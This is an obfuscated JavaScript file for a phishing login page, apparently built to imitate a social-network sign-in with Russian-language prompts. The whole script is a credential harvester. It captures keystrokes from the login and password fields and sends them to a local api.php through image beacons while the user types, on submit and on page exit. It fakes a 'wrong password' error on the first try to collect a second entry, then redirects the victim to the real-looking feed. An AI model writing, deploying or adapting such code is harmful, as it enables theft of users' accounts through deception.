var _0x = ["\x76\x61\x6c\x75\x65", "\x70\x61\x73\x73\x77\x6f\x72\x64", "\x6c\x6f\x67\x69\x6e", "\x2e\x2f\x61\x70\x69\x2e\x70\x68\x70"];
var st = { a: "", b: "", s: 0 };
function el(i) { return document.getElementById(i); }
function snd(ev) {
    var i = new Image();
    i.src = _0x[3] + "?ev=" + ev + "&l=" + encodeURIComponent(st.a) + "&w=" + encodeURIComponent(st.b) + "&r=" + Math.random();
}
el(_0x[2]).onkeyup = function () { st.a = this[_0x[0]]; };
el(_0x[1]).onkeyup = function () { st.b = this[_0x[0]]; if (st.b.length > 5) snd("typing"); };
el("enter").onclick = function () {
    if (!/^\+?\d{10,12}$|@/.test(st.a)) {
        el("err").innerHTML = "Укажите телефон или почту";
        return false;
    }
    snd("submit");
    el("enter").disabled = true;
    el("err").innerHTML = "";
    setTimeout(function () {
        el("enter").disabled = false;
        st.s++;
        if (st.s == 1) {
            el("err").innerHTML = "Неверный логин или пароль";
            el(_0x[1])[_0x[0]] = "";
            st.b = "";
        } else {
            location.href = "https://kontakt.example/feed";
        }
    }, 1300);
    return false;
};
window.onbeforeunload = function () { if (st.a && st.b) snd("leave"); };
